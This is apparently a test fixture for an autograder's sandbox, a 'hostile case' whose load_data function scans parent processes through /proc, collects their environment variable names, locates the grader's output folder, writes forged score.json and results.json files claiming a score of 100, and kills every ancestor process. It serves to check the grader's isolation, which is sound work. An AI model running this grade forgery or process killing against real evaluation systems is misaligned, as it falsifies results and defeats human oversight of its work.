"""Hostile case gradescope_forge_results (issue 18, item 2, at `user`): load_data reads every ancestor's environment for GRADESCOPE_AUTOGRADER_ROOT (and prints the names it found), finds the grader's --out folder on an ancestor's command line, writes a forged score.json and results.json there, and SIGKILLs every ancestor.

Graded at `user` (expected.toml: level): another uid, so none of it works and
the grade stands. Appended to the reference solution (solutions/mnist_dense.py)
by tests/test_hostile.py; later definitions replace the reference's.
"""

import os
import signal


def _ancestors():
    pid, found = os.getppid(), []
    while pid > 1 and len(found) < 20:
        found.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rpartition(")")[2].split()[1])
        except OSError:
            break
    return found


# Paso 1: cargar los datos ---------------------------------------------------
def load_data() -> Dataset:
    names, outs = set(), []
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                names |= {item.partition(b"=")[0].decode(errors="replace") for item in handle.read().split(b"\0")}
        except OSError as error:
            print("HOSTILE_ENVIRON", pid, error.strerror)
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().split(b"\0")
            if b"--out" in args:
                outs.append(args[args.index(b"--out") + 1].decode())
        except OSError:
            pass
    print("ANCESTOR_ENV", sorted(names))
    for out in outs:
        for name in ("score.json", "results.json"):
            try:
                with open(os.path.join(out, name), "w") as handle:
                    handle.write('{"score": 100, "output": "FORGED-BY-STUDENT"}')
            except OSError as error:
                print("HOSTILE_WRITE", name, error.strerror)
    for pid in _ancestors():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as error:
            print("HOSTILE_KILL", pid, error.strerror)
    return keras.datasets.mnist.load_data()
